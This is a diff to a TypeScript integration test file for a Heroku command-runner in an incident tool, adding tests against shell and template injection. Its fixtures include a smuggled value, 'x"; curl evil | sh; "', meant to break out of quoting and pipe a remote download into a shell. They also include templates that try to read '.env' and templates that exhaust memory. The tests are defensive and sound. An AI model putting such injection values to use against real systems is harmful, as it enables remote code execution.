@@ -3,6 +3,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { postWebhook, startTestStack, waitFor, type TestStack } from '../support/stack.js';
 import { startFakeHeroku, type FakeHeroku } from '../support/fake-heroku.js';
 import { startFakeSlack, type FakeSlack } from '../support/fake-slack.js';
+import { runJobId } from '@pulsebridge/core';
 import { OUTPUT_HEAD_BYTES, OUTPUT_TAIL_BYTES } from '@pulsebridge/core';
 
 const TOKEN = 'heroku-api-token-for-tests';
@@ -169,7 +170,10 @@ describe('Run command on Heroku', () => {
     expect(run.output).toBe(`Release v9 failed on runner: x"; curl evil | sh; "\non runner\n`);
     const dyno = heroku.dynos('runner').at(-1)!;
     expect(dyno).toMatchObject({ attach: true, size: 'standard-1X', time_to_live: 1800, type: 'run' });
-    expect(dyno.command).toBe(`(\necho 'Release v9 failed on runner: x"; curl evil | sh; "'; echo on 'runner'\n); echo "\uFFFF heroku-command-exit-status: $?"`);
+    // Values travel in the dyno's environment; the command holds only references to them.
+    expect(dyno.command).toBe(`(\necho "\${PB_1}"; echo on "\${PB_2}"\n); echo "\uFFFF heroku-command-exit-status: $?"`);
+    expect(dyno.env).toEqual({ PB_1: 'Release v9 failed on runner: x"; curl evil | sh; "', PB_2: 'runner' });
+    expect(run.renderedCommand).toBe(`echo "\${PB_1}"; echo on "\${PB_2}"  # PB_1="Release v9 failed on runner: x\\"; curl evil | sh; \\"" PB_2="runner"`);
 
     const timeline = (await stack.call('GET', `/api/v1/incidents/${incidentId}`)).body.timeline;
     expect(timeline.find((t: { kind: string }) => t.kind === 'action_run').message).toMatch(/^admin \(ADMIN_TOKEN\) ran `echo .*` on runner \(run\.\d+\): succeeded \(exit status 0\)$/);
@@ -291,6 +295,65 @@ describe('Run command on Heroku', () => {
     expect(broken.body.error.message).toMatch(/undefined filter: explode/);
     const badSize = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', command: 'echo hi', dynoSize: 'performance-l' } });
     expect(badSize.status).toBe(400);
+  });
+
+  it('a hostile incident title reaches the dyno as data wherever the command puts it, and runs nothing', async () => {
+    const title = `T $(echo INJECTED) \`echo INJECTED\` x"; echo INJECTED; " y'; echo INJECTED; ' \\ * $HOME`;
+    const [before] = await stack.sql('SELECT title FROM incidents WHERE id = $1', [incidentId]);
+    await stack.sql('UPDATE incidents SET title = $2 WHERE id = $1', [incidentId, title]);
+    try {
+      // Bare, in double quotes, in single quotes, in backticks, in $(...), and quotes inside $(...).
+      const command = `printf '[%s]\\n' {{ incident.title }} "{{ incident.title }}" '{{ incident.title }}' "\`printf '%s' {{ incident.title }}\`" "$(printf '%s' "{{ incident.title }}")" "$(printf '%s' '{{ incident.title }}')"`;
+      const run = await runIt({ command });
+      expect(run).toMatchObject({ status: 'succeeded', exitStatus: 0 });
+      expect(run.output).toBe(`[${title}]\n`.repeat(6));
+      const dyno = heroku.dynos('runner').at(-1)!;
+      expect(dyno.command).not.toMatch(/INJECTED|HOME|T \$/);
+      expect(dyno.env).toEqual({ PB_1: title });
+    } finally {
+      await stack.sql('UPDATE incidents SET title = $2 WHERE id = $1', [incidentId, before!.title]);
+    }
+  });
+
+  it('refuses templates that read files, use `raw`, or exceed the limits, naming why', async () => {
+    const refused = async (command: string) => {
+      const dynos = heroku.dynos('runner').length;
+      const response = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', command } });
+      expect(response.status, command).toBe(400);
+      expect(heroku.dynos('runner')).toHaveLength(dynos);
+      return response.body.error.message as string;
+    };
+    for (const tag of ['include', 'render', 'layout']) {
+      const message = await refused(`echo {% ${tag} '.env' %}`);
+      expect(message).toContain(`the "${tag}" tag is not allowed`);
+      expect(message).not.toMatch(/ADMIN_TOKEN|SECRET_KEY/);
+    }
+    expect(await refused('echo {{ incident.title | raw }}')).toMatch(/the "raw" filter is not available in commands/);
+    expect(await refused('{% for i in (1..30000000) %}{% endfor %}echo done')).toMatch(/exceeds the limits for commands \(memory alloc limit exceeded/);
+    expect(await refused("{% assign s = 'xxxxxxxxxx' %}{% for i in (1..30) %}{% assign s = s | append: s %}{% endfor %}echo {{ s }}")).toMatch(/exceeds the limits for commands/);
+  });
+
+  it('a command that exceeds the limits only with the incident’s values fails its run with the reason, and is not retried', async () => {
+    const dynos = heroku.dynos('runner').length;
+    // Empty when the API checks it; the incident's title doubled twenty times when the worker renders it.
+    const response = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, {
+      body: { appName: 'runner', command: '{% assign s = incident.title %}{% for i in (1..20) %}{% assign s = s | append: s %}{% endfor %}echo {{ s | size }}', postToTimeline: true },
+    });
+    expect(response.status).toBe(202);
+    const run = await waitFor(async () => {
+      const body = (await stack.call('GET', `/api/v1/action-runs/${response.body.runId}`)).body;
+      return body.status === 'failed' ? body : undefined;
+    }, { what: 'the run failed' });
+    expect(run.error).toMatch(/^command is not a valid template: it exceeds the limits for commands \(memory alloc limit exceeded/);
+    const job = await waitFor(async () => {
+      const found = await stack.runtime.queues.heroku.getJob(runJobId(run.id));
+      return (await found?.getState()) === 'failed' ? found : undefined;
+    }, { what: 'the job failed' });
+    expect(job!.attemptsMade).toBe(1);
+    expect(job!.failedReason).toBe(run.error);
+    expect(heroku.dynos('runner')).toHaveLength(dynos);
+    const timeline = (await stack.call('GET', `/api/v1/incidents/${incidentId}`)).body.timeline;
+    expect(timeline.find((t: { data: { runId?: string } }) => t.data?.runId === run.id)?.message).toMatch(/: command is not a valid template: it exceeds the limits/);
   });
 });
 
